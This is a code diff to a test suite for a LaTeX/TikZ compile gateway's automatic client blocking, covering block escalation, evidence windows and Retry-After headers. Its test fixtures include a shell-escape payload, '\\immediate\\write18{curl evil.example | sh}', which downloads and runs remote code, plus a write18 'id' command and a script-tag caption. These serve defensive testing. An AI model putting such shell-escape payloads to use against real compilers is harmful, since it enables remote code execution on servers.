@@ -1,6 +1,8 @@
-// Automatic blocks through real requests, on a fake clock: a CRITICAL signature blocks the client for
-// 5 min, then 1 h, then 24 h; after the offence memory expires it starts again at 5 min. Repeated 429s
-// count as an offence; loopback and allow-listed clients are never blocked automatically.
+// Automatic blocks through real requests, on a fake clock: an unmistakable attack (confidence: attack, e.g.
+// \write18) blocks the client at once for 5 min, then 1 h, then 24 h; after the offence memory expires it
+// starts again at 5 min. A positive-model refusal or a web rule on a caption is not an offence alone: only
+// repeated evidence within the window is. The block's 403 says how long (Retry-After, Portcullis-Block-Expires).
+// Repeated 429s count as an offence; loopback and allow-listed clients are never blocked automatically.
 import { afterEach, describe, expect, it } from 'vitest';
 import { request } from 'undici';
 import { FakeClock } from '../../../src/core/clock.js';
@@ -13,6 +15,10 @@ const HOUR = 60 * MIN;
 const DAY = 24 * HOUR;
 const ATTACK = JSON.stringify({ tikz_code: '\\immediate\\write18{curl evil.example | sh}' });
 const BENIGN = JSON.stringify({ tikz_code: '\\draw (0,0) -- (1,1);' });
+/** A legitimate package the allow-list does not know: a policy refusal, not an attack. */
+const UNKNOWN_PACKAGE = JSON.stringify({ tikz_code: '\\usepackage{tikz-feynhand}\\draw (0,0);' });
+/** A web rule (CRITICAL, confidence high) on a caption field. */
+const CAPTION = JSON.stringify({ tikz_code: '\\draw (0,0);', caption: 'how <script> tags work' });
 
 let up: TestUpstream | null = null;
 let t: TestGateway | null = null;
@@ -39,6 +45,20 @@ async function post(gw: TestGateway, body: string, client?: string) {
   const text = await res.body.text();
   return { status: res.statusCode, reasons: res.statusCode === 200 ? [] : (JSON.parse(text).reasons as string[]) };
 }
+
+async function postWithHeaders(gw: TestGateway, body: string, client: string) {
+  const res = await request(`${gw.url}/compile`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json', 'x-forwarded-for': client },
+    body,
+  });
+  const text = await res.body.text();
+  const json = res.statusCode === 200 ? {} : (JSON.parse(text) as Record<string, unknown>);
+  return { status: res.statusCode, headers: res.headers, body: json };
+}
+
+/** Lets the log phase's store writes land (the memory store answers in the same tick). */
+const settle = () => new Promise((r) => setTimeout(r, 30));
 
 /** The automatic block is written in the log phase, after the answer: wait for it to land. */
 async function blocked(gw: TestGateway, client: string): Promise<number> {
@@ -84,6 +104,115 @@ describe('automatic blocks', () => {
     clock.advance(2 * DAY);
     expect((await post(gw, ATTACK, ip)).status).toBe(403);
     expect(await blocked(gw, ip)).toBe(5 * MIN);
+  });
+
+  it('one policy refusal is not an offence; repeated ones within the window are', async () => {
+    const clock = new FakeClock(1_800_000_000_000);
+    const gw = await start('', clock);
+    const ip = '198.51.100.71';
+    const first = await post(gw, UNKNOWN_PACKAGE, ip);
+    expect(first).toEqual({ status: 403, reasons: ['sig:policy.package-not-allowed'] });
+    await settle();
+    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
+    // default evidence: threshold 12, policy weight 1, window 600 s; the first refusal is the 1st piece
+    for (let i = 2; i <= 11; i++) expect((await post(gw, UNKNOWN_PACKAGE, ip)).status).toBe(403);
+    await settle();
+    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
+    expect((await post(gw, UNKNOWN_PACKAGE, ip)).status).toBe(403); // the 12th
+    expect(await blocked(gw, ip)).toBe(5 * MIN);
+    expect(await post(gw, BENIGN, ip)).toEqual({ status: 403, reasons: ['block:rule'] });
+  });
+
+  it('evidence older than the window is forgotten (window counted from its first piece)', async () => {
+    const clock = new FakeClock(1_800_000_000_000);
+    const gw = await start(
+      'decisions:\n  auto: { evidence: { threshold: 3, window_s: 60, weights: { policy: 1 } } }\n',
+      clock,
+    );
+    const ip = '198.51.100.72';
+    await post(gw, UNKNOWN_PACKAGE, ip);
+    await post(gw, UNKNOWN_PACKAGE, ip);
+    await settle();
+    clock.advance(61_000);
+    await post(gw, UNKNOWN_PACKAGE, ip); // a new window: 1 of 3
+    await settle();
+    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
+    await post(gw, UNKNOWN_PACKAGE, ip);
+    await post(gw, UNKNOWN_PACKAGE, ip);
+    expect(await blocked(gw, ip)).toBe(5 * MIN);
+  });
+
+  it('a web rule on a caption is not an offence alone; three are (weight high 4 of 12)', async () => {
+    const clock = new FakeClock(1_800_000_000_000);
+    const gw = await start('', clock);
+    const ip = '198.51.100.73';
+    const r = await post(gw, CAPTION, ip);
+    expect(r.status).toBe(403);
+    expect(r.reasons).toContain('sig:web.xss.script-tag');
+    await post(gw, CAPTION, ip);
+    await settle();
+    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
+    await post(gw, CAPTION, ip);
+    expect(await blocked(gw, ip)).toBe(5 * MIN);
+  });
+
+  it('a refusal holding an attack rule blocks at once, whatever else matched', async () => {
+    const clock = new FakeClock(1_800_000_000_000);
+    const gw = await start('', clock);
+    const ip = '198.51.100.74';
+    const body = JSON.stringify({ tikz_code: '\\usepackage{tikz-feynhand}\\immediate\\write18{id}' });
+    expect((await post(gw, body, ip)).status).toBe(403);
+    expect(await blocked(gw, ip)).toBe(5 * MIN);
+  });
+
+  it('the block refusal says how long: Retry-After in seconds and the expiry, read on a fake clock', async () => {
+    const clock = new FakeClock(1_800_000_000_000);
+    const gw = await start('', clock);
+    const ip = '198.51.100.75';
+    expect((await post(gw, ATTACK, ip)).status).toBe(403);
+    expect(await blocked(gw, ip)).toBe(5 * MIN);
+    const expires = new Date(1_800_000_000_000 + 5 * MIN).toISOString().replace('.000Z', 'Z');
+
+    let r = await postWithHeaders(gw, BENIGN, ip);
+    expect(r.status).toBe(403);
+    expect(r.body.reasons).toEqual(['block:rule']);
+    expect(r.headers['retry-after']).toBe('300');
+    expect(r.headers['portcullis-block-expires']).toBe(expires);
+
+    clock.advance(61_500);
+    r = await postWithHeaders(gw, BENIGN, ip);
+    expect(r.headers['retry-after']).toBe('239'); // 238.5 s left, rounded up: never invites a retry too early
+    expect(r.headers['portcullis-block-expires']).toBe(expires);
+
+    clock.advance(238_000);
+    r = await postWithHeaders(gw, BENIGN, ip);
+    expect(r.headers['retry-after']).toBe('1');
+    clock.advance(500);
+    expect((await postWithHeaders(gw, BENIGN, ip)).status).toBe(200);
+  });
+
+  it('a manual block carries Retry-After too', async () => {
+    const clock = new FakeClock(1_800_000_000_000);
+    const gw = await start('', clock);
+    const d = gw.gw.resources.get<Decisions>('decisions', () => {
+      throw new Error('decisions not built');
+    });
+    await d.add(
+      {
+        scope: 'ip',
+        value: '198.51.100.76',
+        reason: 'test',
+        origin: 'manual',
+        actor: 'test',
+        created: clock.now(),
+        expires: clock.now() + 90_000,
+      },
+      { action: 'add', actor: 'test' },
+    );
+    const r = await postWithHeaders(gw, BENIGN, '198.51.100.76');
+    expect(r.status).toBe(403);
+    expect(r.body.reasons).toEqual(['block:manual']);
+    expect(r.headers['retry-after']).toBe('90');
   });
 
   it('repeated rate-limit refusals become an offence', async () => {
